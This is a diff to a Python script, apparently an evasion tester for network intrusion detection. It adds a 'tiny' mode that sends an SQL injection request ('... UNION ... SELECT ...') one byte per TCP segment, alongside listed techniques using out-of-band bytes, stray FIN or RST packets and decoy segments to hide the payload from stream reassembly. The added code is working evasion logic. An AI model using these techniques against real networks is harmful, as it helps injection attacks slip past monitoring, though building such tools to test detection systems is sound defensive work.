@@ -8,6 +8,7 @@ server's application read.
 
 TECHNIQUE is one of:
   oob        a real socket: "... UNION", one byte sent MSG_OOB, "   SELECT ..."
+  tiny       a real socket (TCP_NODELAY): the request one byte per segment
   fin-ahead  raw: "... UNION", a bare FIN one byte past the data, " SELECT ..."
   rst-window raw: "... UNION", an RST inside the window but not at the next
              byte (the receiver answers with a challenge ACK), " SELECT ..."
@@ -152,6 +153,17 @@ def oob(dst, port):
     return 0
 
 
+def tiny(dst, port):
+    s = socket.create_connection((dst, port), timeout=2)
+    s.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
+    for b in HEAD + TAIL:
+        s.send(bytes([b]))
+        time.sleep(0.01)
+    time.sleep(1.0)
+    s.close()
+    return 0
+
+
 def raw(technique, src, dst, port):
     c = Conn(src, dst, port)
     ts = technique == "decoy-paws"
@@ -215,6 +227,8 @@ def main():
     technique, src, dst, port = sys.argv[1], sys.argv[2], sys.argv[3], int(sys.argv[4])
     if technique == "oob":
         return oob(dst, port)
+    if technique == "tiny":
+        return tiny(dst, port)
     if technique not in ("fin-ahead", "rst-window", "decoy-md5", "decoy-paws", "ext-headers",
                          "plain", "benign", "midstream"):
         print(__doc__, file=sys.stderr)
